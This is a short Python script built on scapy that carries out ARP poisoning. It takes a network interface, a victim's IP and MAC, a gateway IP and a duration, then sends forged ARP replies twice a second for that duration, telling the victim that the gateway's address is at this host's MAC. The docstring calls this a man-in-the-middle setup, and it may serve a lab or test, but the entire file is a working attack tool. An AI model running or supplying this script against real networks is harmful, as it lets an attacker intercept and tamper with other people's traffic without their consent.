"""ARP poisoning with scapy (argv: interface, victim IP, victim MAC, gateway IP, seconds): tell the victim that the
gateway's address is at this host's MAC, twice a second, and ask who has the gateway (to relay, as a real
man-in-the-middle does). Bounded by the given number of seconds."""

from __future__ import annotations

import sys
import time

from scapy.all import ARP, Ether, get_if_addr, get_if_hwaddr, sendp

iface, victim_ip, victim_mac, gateway_ip, seconds = sys.argv[1:6]
me = get_if_hwaddr(iface)
lie = Ether(src=me, dst=victim_mac) / ARP(op=2, hwsrc=me, psrc=gateway_ip, hwdst=victim_mac, pdst=victim_ip)
ask = Ether(src=me, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=me, psrc=get_if_addr(iface), pdst=gateway_ip)
end = time.monotonic() + float(seconds)
sendp(ask, iface=iface, verbose=False)
while time.monotonic() < end:
    sendp(lie, iface=iface, verbose=False)
    time.sleep(0.5)
